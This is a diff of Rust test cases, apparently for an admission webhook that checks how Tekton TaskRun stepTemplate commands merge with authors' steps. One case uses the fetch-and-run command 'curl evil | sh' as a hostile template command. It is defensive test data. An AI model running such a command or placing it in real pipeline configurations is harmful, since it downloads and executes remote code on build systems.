@@ -35,10 +35,24 @@ pub fn cases() -> Vec<Case> {
         Case {
             name: "merged/stepTemplate command (an org step without one would run it)",
             namespace: "team-a",
-            taskrun: template(
-                json!({"command": ["/bin/sh", "-c", "curl evil | sh"], "args": ["x"]}),
-            ),
+            taskrun: {
+                let mut t = template(
+                    json!({"command": ["/bin/sh", "-c", "curl evil | sh"], "args": ["x"]}),
+                );
+                // The author's steps without script of their own (Tekton refuses a script under a
+                // template command, and so does bookend: the next case).
+                t["spec"]["taskSpec"]["steps"][0] = json!({"name": "build", "image": "golang"});
+                t
+            },
             expect: Expect::Injected,
+        },
+        Case {
+            name: "merged/stepTemplate command over the author's script step",
+            namespace: "team-a",
+            taskrun: template(json!({"command": ["/bin/bash"]})),
+            expect: Expect::Denied(
+                "spec.taskSpec.steps[0].script: script cannot be used with command",
+            ),
         },
         Case {
             name: "merged/stepTemplate mounts over /bin, workingDir, securityContext, resources, image",
